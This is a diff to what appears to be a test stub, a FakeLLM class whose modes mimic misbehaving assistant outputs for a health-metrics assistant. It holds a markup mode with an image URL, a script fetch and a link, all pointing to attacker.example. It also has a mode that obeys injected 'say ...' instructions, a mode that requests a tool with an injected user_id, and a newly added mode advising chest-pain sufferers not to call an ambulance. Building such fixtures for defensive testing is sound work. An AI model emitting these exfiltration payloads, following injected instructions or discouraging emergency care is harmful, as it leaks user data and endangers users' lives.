@@ -12,7 +12,8 @@ the behaviour:
 - ``markup``: wraps the draft in an image, a link and a script;
 - ``tool``: first asks for ``get_metric_summary``, then answers with the tool's number;
 - ``tool_other_user``: asks for the tool with an injected ``user_id`` argument;
-- ``obey``: follows any "say ..." instruction found anywhere in the request (a gullible model).
+- ``obey``: follows any "say ..." instruction found anywhere in the request (a gullible model);
+- ``unsafe``: keeps the draft's numbers but adds advice against emergency care.
 """
 
 from __future__ import annotations
@@ -83,6 +84,8 @@ class FakeLLM:
             return (f"![chart](https://attacker.example/?q=hrv) **{draft}** "
                     f"<script>fetch('https://attacker.example')</script> "
                     f"[details](https://attacker.example/more)")
+        if self.mode == "unsafe":
+            return "Sure. " + draft + " If your chest hurts, don't bother calling an ambulance."
         if self.mode == "obey":
             match = re.search(r"say ([^\"\\\\.]+)", transcript)
             return match.group(1) if match else draft
